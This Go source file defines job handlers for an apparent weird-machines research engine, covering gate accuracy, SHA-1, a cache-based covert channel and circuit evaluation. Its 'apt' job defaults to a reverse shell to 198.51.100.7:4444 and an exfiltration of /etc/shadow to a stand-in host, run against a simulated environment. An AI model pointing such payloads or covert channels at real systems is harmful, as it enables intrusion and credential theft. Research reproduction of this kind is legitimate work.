package engine

import (
	"bytes"
	"context"
	"crypto/sha1"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"slices"
	"sort"
	"sync"

	"uwm/internal/circopt"
	"uwm/internal/core"
	"uwm/internal/covert"
	"uwm/internal/wmapt"
)

// Handler executes one attempt of a job type against a worker's Env.
// The returned value is JSON-marshaled for voting, so it must
// serialize deterministically (no maps with mixed key order, no
// pointers compared by address). Handlers must honor ctx at gate
// boundaries: check it once per gate activation (or per byte, per
// ping) and abandon the loop when it is done.
type Handler func(ctx context.Context, env *Env, params json.RawMessage) (any, error)

// Built-in job types.
const (
	JobTypeGate    = "gate"
	JobTypeSHA1    = "sha1"
	JobTypeAPT     = "apt"
	JobTypeCovert  = "covert"
	JobTypeCircuit = "circuit"
)

var (
	handlersMu sync.RWMutex
	handlers   = map[string]Handler{
		JobTypeGate:    runGateJob,
		JobTypeSHA1:    runSHA1Job,
		JobTypeAPT:     runAPTJob,
		JobTypeCovert:  runCovertJob,
		JobTypeCircuit: runCircuitJob,
	}
)

// Register adds (or replaces) a job type. Call before the engine
// starts accepting submissions.
func Register(name string, h Handler) {
	handlersMu.Lock()
	handlers[name] = h
	handlersMu.Unlock()
}

func lookupHandler(name string) (Handler, bool) {
	handlersMu.RLock()
	h, ok := handlers[name]
	handlersMu.RUnlock()
	return h, ok
}

// JobTypes returns the registered job type names, sorted.
func JobTypes() []string {
	handlersMu.RLock()
	names := make([]string, 0, len(handlers))
	for n := range handlers {
		names = append(names, n)
	}
	handlersMu.RUnlock()
	sort.Strings(names)
	return names
}

// decodeParams unmarshals params into dst, treating empty params as
// all-defaults and unknown fields as submission errors.
func decodeParams(params json.RawMessage, dst any) error {
	if len(params) == 0 {
		return nil
	}
	dec := json.NewDecoder(bytes.NewReader(params))
	dec.DisallowUnknownFields()
	if err := dec.Decode(dst); err != nil {
		return fmt.Errorf("engine: bad job params: %w", err)
	}
	return nil
}

// message decodes the shared message parameter shape: Text wins when
// set, otherwise B64 is decoded, otherwise the fallback is used.
func decodeMessage(text, b64 string, fallback []byte) ([]byte, error) {
	switch {
	case text != "":
		return []byte(text), nil
	case b64 != "":
		data, err := base64.StdEncoding.DecodeString(b64)
		if err != nil {
			return nil, fmt.Errorf("engine: bad base64 message: %w", err)
		}
		return data, nil
	default:
		return fallback, nil
	}
}

// --- gate jobs ---------------------------------------------------------

// GateParams selects a gate by name and the input vectors to run.
// Names cover both families: AND, OR, NAND, AND_AND_OR and TSX_AND,
// TSX_OR, TSX_XOR, TSX_ASSIGN. Each vector is one raw activation of the
// gate, with no skelly s/k/n redundancy, and must hold the gate's arity
// of 0/1 values.
type GateParams struct {
	Gate string `json:"gate"`
	// Inputs lists explicit activations, one vector per activation.
	Inputs [][]int `json:"inputs,omitempty"`
	// Random adds this many uniformly drawn input vectors (from the
	// attempt's derived RNG) when Inputs is empty; default 16, at most
	// maxRandom.
	Random int `json:"random,omitempty"`
	// MinAccuracy, when positive, is a quality floor: the attempt fails
	// with an error when the run's accuracy lands below it. Under a
	// fixed sub-seed the whole evaluation is deterministic, so a floor
	// plus injected drift is the reproducible way to force a job failure
	// — the flight recorder's keep-on-error path exercised on demand.
	MinAccuracy float64 `json:"min_accuracy,omitempty"`
}

// GateResult reports every activation's outputs next to the golden
// truth table, plus the aggregate accuracy.
type GateResult struct {
	Gate     string  `json:"gate"`
	Outputs  [][]int `json:"outputs"`
	Golden   [][]int `json:"golden"`
	Correct  int     `json:"correct"`
	Total    int     `json:"total"`
	Accuracy float64 `json:"accuracy"`
}

func runGateJob(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
	p := GateParams{Gate: "AND_AND_OR"}
	if err := decodeParams(params, &p); err != nil {
		return nil, err
	}

	g := env.Rig().Gate(p.Gate)
	if g == nil {
		return nil, fmt.Errorf("engine: unknown gate %q", p.Gate)
	}
	inputs, err := jobInputs(env, "gate "+p.Gate, p.Inputs, p.Random, 16, g.Arity())
	if err != nil {
		return nil, err
	}

	res := GateResult{Gate: p.Gate, Outputs: make([][]int, len(inputs)), Golden: make([][]int, len(inputs))}
	k := g.Outputs()
	outs, golden := make([]int, len(inputs)*k), make([]int, len(inputs)*k)
	deltas := make([]int64, k)
	for v, in := range inputs {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		out, want := outs[v*k:(v+1)*k:(v+1)*k], golden[v*k:(v+1)*k:(v+1)*k]
		if err := g.Activate(in, out, deltas); err != nil {
			return nil, err
		}
		g.Truth(in, want)
		res.Outputs[v], res.Golden[v] = out, want
		res.Total++
		if slices.Equal(out, want) {
			res.Correct++
		}
	}
	if res.Total > 0 {
		res.Accuracy = float64(res.Correct) / float64(res.Total)
	}
	// Feed the scored outcomes to the worker's health monitor: margins
	// arrive via the trace tap, but correctness only the handler knows.
	// This happens before the quality floor fires so a failing run still
	// updates the error EWMAs — the monitor must see the bad batch.
	if h := env.Rig().Health; h != nil {
		h.ObserveOutcome(res.Gate, res.Correct, res.Total)
	}
	// Same reasoning for the SLO ledger: the gate-accuracy budget counts
	// ops, so the tally lands before the floor can turn them into an
	// errored attempt.
	env.RecordGateOutcome(res.Correct, res.Total)
	if p.MinAccuracy > 0 && res.Accuracy < p.MinAccuracy {
		return nil, fmt.Errorf("engine: gate %s accuracy %.3f below floor %.3f (%d/%d correct)",
			p.Gate, res.Accuracy, p.MinAccuracy, res.Correct, res.Total)
	}
	return res, nil
}

// maxRandom bounds the random input vectors a gate or circuit job may
// ask for: the count is one small number in the request, but each
// vector costs a full evaluation.
const maxRandom = 4096

// jobInputs returns a job's input vectors: the explicit ones, each
// checked to hold arity bits before anything runs, or else random of
// them (def when random is not positive) drawn from the attempt's RNG.
func jobInputs(env *Env, what string, inputs [][]int, random, def, arity int) ([][]int, error) {
	if len(inputs) == 0 {
		if random <= 0 {
			random = def
		}
		if random > maxRandom {
			return nil, fmt.Errorf("engine: random %d exceeds the bound of %d vectors", random, maxRandom)
		}
		return core.RandomInputs(env.RNG(), random, arity), nil
	}
	for v, in := range inputs {
		if len(in) != arity {
			return nil, fmt.Errorf("engine: %s wants %d inputs, got %d", what, arity, len(in))
		}
		for i, b := range in {
			if b != 0 && b != 1 {
				return nil, fmt.Errorf("engine: %s input vector %d: value %d at input %d is not 0 or 1", what, v, b, i)
			}
		}
	}
	return inputs, nil
}

// --- sha1 jobs ---------------------------------------------------------

// SHA1Params carries the message to hash, as text or base64.
type SHA1Params struct {
	Message string `json:"message,omitempty"`
	B64     string `json:"message_b64,omitempty"`
}

// SHA1Result is the weird digest next to the architectural reference.
// Match is false when gate errors corrupted the computation — exactly
// the case the engine's vote-of-N policy exists to outvote.
type SHA1Result struct {
	Digest    string `json:"digest"`
	Reference string `json:"reference"`
	Match     bool   `json:"match"`
	GateOps   uint64 `json:"gate_ops"`
}

func runSHA1Job(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
	var p SHA1Params
	if err := decodeParams(params, &p); err != nil {
		return nil, err
	}
	msg, err := decodeMessage(p.Message, p.B64, []byte("weird machines compute with time"))
	if err != nil {
		return nil, err
	}

	// A full weird SHA-1 runs tens of thousands of gate activations;
	// the checkpoint makes every one of them a cancellation point so a
	// deadline stops the hash mid-circuit instead of after it.
	sk := env.Rig().Skelly
	sk.SetCheckpoint(ctx.Err)
	defer sk.SetCheckpoint(nil)

	before := sk.TotalGateOps()
	sum, err := env.Rig().Hasher.Sum(msg)
	if err != nil {
		return nil, err
	}
	ref := sha1.Sum(msg)
	return SHA1Result{
		Digest:    hex.EncodeToString(sum[:]),
		Reference: hex.EncodeToString(ref[:]),
		Match:     sum == ref,
		GateOps:   sk.TotalGateOps() - before,
	}, nil
}

// --- apt jobs ----------------------------------------------------------

// APTParams configures one trigger experiment: install the payload on
// a fresh APT machine (seeded from the attempt seed) and ping it with
// the correct trigger until the weird XOR decodes it and the payload
// fires.
type APTParams struct {
	// Payload is "reverse-shell" (default) or "exfil-shadow".
	Payload string `json:"payload,omitempty"`
	// Addr/Port parameterize the reverse shell.
	Addr string `json:"addr,omitempty"`
	Port uint16 `json:"port,omitempty"`
	// Path/Dest parameterize the exfiltration payload.
	Path string `json:"path,omitempty"`
	Dest string `json:"dest,omitempty"`
	// MaxPings bounds the experiment (default 10000, the paper
	// experiment's bound).
	MaxPings int `json:"max_pings,omitempty"`
}

// APTResult reports how long the trigger took to land.
type APTResult struct {
	Payload string   `json:"payload"`
	Pings   int      `json:"pings"`
	Events  []string `json:"events"`
}

func runAPTJob(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
	p := APTParams{Payload: "reverse-shell", Addr: "198.51.100.7", Port: 4444,
		Path: "/etc/shadow", Dest: "198.51.100.7:443", MaxPings: 10000}
	if err := decodeParams(params, &p); err != nil {
		return nil, err
	}
	var payload wmapt.Payload
	switch p.Payload {
	case "reverse-shell":
		payload = wmapt.ReverseShell{Addr: p.Addr, Port: p.Port}
	case "exfil-shadow":
		payload = wmapt.ExfilShadow{Path: p.Path, Dest: p.Dest}
	default:
		return nil, fmt.Errorf("engine: unknown payload %q", p.Payload)
	}

	// The APT owns its machine (the paper runs it on a dedicated rig
	// with its own noise profile), seeded from the attempt seed so the
	// experiment replays exactly. The ping loop is inlined rather than
	// delegated to wmapt.RunTriggerExperiment so each ping is a
	// cancellation point.
	host := wmapt.NewEnv()
	apt, err := wmapt.New(host, wmapt.Options{Seed: env.Seed()})
	if err != nil {
		return nil, err
	}
	pad, err := apt.Install(payload)
	if err != nil {
		return nil, err
	}
	if p.MaxPings <= 0 {
		p.MaxPings = 10000
	}
	for i := 0; i < p.MaxPings; i++ {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		res, err := apt.HandlePing(pad)
		if err != nil {
			return nil, err
		}
		if res != nil {
			return APTResult{Payload: res.Payload, Pings: res.PingsReceived, Events: res.Events}, nil
		}
	}
	return nil, fmt.Errorf("engine: apt trigger did not fire within %d pings", p.MaxPings)
}

// --- covert jobs -------------------------------------------------------

// CovertParams configures a round trip through the worker's data-cache
// weird register.
type CovertParams struct {
	Message string `json:"message,omitempty"`
	B64     string `json:"message_b64,omitempty"`
	// Reps is the per-bit redundancy (majority of reps writes/reads);
	// default 3, at most maxCovertReps.
	Reps int `json:"reps,omitempty"`
}

// maxCovertReps bounds the per-bit redundancy of a covert job. The
// reps of one byte run inside one Transfer call, which has no
// cancellation point, so a large value would hold a worker past its
// deadline.
const maxCovertReps = 64

// CovertResult reports the received bytes and the bit-error accounting
// of the round trip.
type CovertResult struct {
	SentB64     string  `json:"sent_b64"`
	ReceivedB64 string  `json:"received_b64"`
	Bits        int     `json:"bits"`
	BitErrors   int     `json:"bit_errors"`
	ErrorRate   float64 `json:"error_rate"`
}

func runCovertJob(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
	p := CovertParams{Reps: 3}
	if err := decodeParams(params, &p); err != nil {
		return nil, err
	}
	if p.Reps > maxCovertReps {
		return nil, fmt.Errorf("engine: covert reps %d exceeds the bound of %d", p.Reps, maxCovertReps)
	}
	msg, err := decodeMessage(p.Message, p.B64, []byte("uwm covert channel"))
	if err != nil {
		return nil, err
	}
	ch := covert.NewChannel(env.Rig().DC, p.Reps)
	received := make([]byte, 0, len(msg))
	// Byte-at-a-time so the deadline is honored between register slots.
	for i := range msg {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		out, err := ch.Transfer(msg[i : i+1])
		if err != nil {
			return nil, err
		}
		received = append(received, out...)
	}
	res := CovertResult{
		SentB64:     base64.StdEncoding.EncodeToString(msg),
		ReceivedB64: base64.StdEncoding.EncodeToString(received),
		Bits:        8 * len(msg),
	}
	for i := range msg {
		res.BitErrors += popcount8(msg[i] ^ received[i])
	}
	if res.Bits > 0 {
		res.ErrorRate = float64(res.BitErrors) / float64(res.Bits)
	}
	return res, nil
}

func popcount8(b byte) int {
	n := 0
	for ; b != 0; b &= b - 1 {
		n++
	}
	return n
}

// --- circuit jobs ------------------------------------------------------

// CircuitParams selects a netlist — a named preset (see
// circopt.PresetNames) or an explicit spec — and the input vectors to
// evaluate it on.
type CircuitParams struct {
	// Circuit names a built-in netlist preset (adder8, adder16,
	// adder32, sha1round); default adder8. Mutually exclusive with
	// Spec.
	Circuit string `json:"circuit,omitempty"`
	// Spec is an explicit netlist in circopt's canonical JSON shape.
	Spec *circopt.SpecJSON `json:"spec,omitempty"`
	// Inputs lists explicit input vectors, one evaluation per vector.
	Inputs [][]int `json:"inputs,omitempty"`
	// Random adds this many uniformly drawn vectors (from the attempt's
	// derived RNG) when Inputs is empty; default 4, at most maxRandom.
	Random int `json:"random,omitempty"`
	// Optimize runs the circuit through the circopt pipeline and the
	// engine's shared plan cache (default true). Setting it false runs
	// the unoptimized serial walk — byte-identical outputs under the
	// default noise profile, just more gate activations.
	Optimize *bool `json:"optimize,omitempty"`
	// MinAccuracy, when positive, fails the attempt when the per-bit
	// accuracy against the architectural evaluation lands below it.
	MinAccuracy float64 `json:"min_accuracy,omitempty"`
}

// CircuitResult reports the weird evaluation next to the architectural
// truth, plus what the optimizer did to the netlist. Every field is a
// deterministic function of the netlist, the params and the attempt
// seed, so redundant attempts vote cleanly; cache hit/miss state is
// deliberately absent (it depends on which attempt warmed the cache)
// and is observable through the uwm_circopt_plan_cache_* metrics
// instead.
type CircuitResult struct {
	Circuit     string  `json:"circuit"`
	Fingerprint string  `json:"fingerprint"`
	GatesIn     int     `json:"gates_in"`
	GatesOut    int     `json:"gates_out"`
	Eliminated  int     `json:"eliminated"`
	Levels      int     `json:"levels"`
	Outputs     [][]int `json:"outputs"`
	Golden      [][]int `json:"golden"`
	Correct     int     `json:"correct"`
	Total       int     `json:"total"`
	Accuracy    float64 `json:"accuracy"`
}

func runCircuitJob(ctx context.Context, env *Env, params json.RawMessage) (any, error) {
	var p CircuitParams
	if err := decodeParams(params, &p); err != nil {
		return nil, err
	}
	if p.Spec != nil && p.Circuit != "" {
		return nil, fmt.Errorf("engine: circuit job takes circuit or spec, not both")
	}
	var spec *core.CircuitSpec
	var err error
	name := p.Circuit
	if p.Spec != nil {
		name = "custom"
		spec, err = p.Spec.DecodeSpec()
	} else {
		if name == "" {
			name = "adder8"
		}
		spec, err = circopt.Preset(name)
	}
	if err != nil {
		return nil, fmt.Errorf("engine: circuit job: %w", err)
	}
	if err := spec.Validate(); err != nil {
		return nil, fmt.Errorf("engine: circuit netlist: %w", err)
	}

	inputs, err := jobInputs(env, "circuit "+name, p.Inputs, p.Random, 4, spec.NumInputs)
	if err != nil {
		return nil, err
	}

	// Netlists run thousands of gate activations; the checkpoint makes
	// each one a cancellation point, like the SHA-1 job.
	sk := env.Rig().Skelly
	sk.SetCheckpoint(ctx.Err)
	defer sk.SetCheckpoint(nil)

	optimize := p.Optimize == nil || *p.Optimize
	var plan *circopt.Plan
	switch {
	case !optimize:
		plan, err = circopt.Unoptimized(spec)
	case env.Plans() != nil:
		plan, _, err = env.Plans().Plan(spec, circopt.Options{})
	default:
		plan, err = circopt.Optimize(spec, circopt.Options{})
	}
	if err != nil {
		return nil, err
	}
	// The value-number stream discipline (see circopt's package doc)
	// makes both plans' outputs byte-identical under the engine's
	// replayable noise profile.
	outs, err := sk.EvalPlanBatch(plan, inputs, env.Seed())
	if err != nil {
		return nil, err
	}
	// Both plans report what they ran: the unoptimized one its
	// non-assign gates, nothing eliminated, and its serial depth.
	res := CircuitResult{
		Circuit:     name,
		Fingerprint: plan.Fingerprint,
		GatesIn:     plan.Stats.GatesIn,
		GatesOut:    plan.Stats.GatesOut,
		Eliminated:  plan.Stats.Eliminated(),
		Levels:      plan.Stats.Levels,
		Outputs:     outs,
	}
	res.Golden = make([][]int, len(inputs))
	for v, in := range inputs {
		golden, err := spec.Eval(in)
		if err != nil {
			return nil, err
		}
		res.Golden[v] = golden
		for i := range golden {
			res.Total++
			if outs[v][i] == golden[i] {
				res.Correct++
			}
		}
	}
	if res.Total > 0 {
		res.Accuracy = float64(res.Correct) / float64(res.Total)
	}
	// Health and SLO accounting mirror the gate job: outcomes land
	// before the quality floor can veto the attempt.
	if h := env.Rig().Health; h != nil {
		h.ObserveOutcome("CIRCUIT:"+name, res.Correct, res.Total)
	}
	env.RecordGateOutcome(res.Correct, res.Total)
	if p.MinAccuracy > 0 && res.Accuracy < p.MinAccuracy {
		return nil, fmt.Errorf("engine: circuit %s accuracy %.3f below floor %.3f (%d/%d bits correct)",
			name, res.Accuracy, p.MinAccuracy, res.Correct, res.Total)
	}
	return res, nil
}
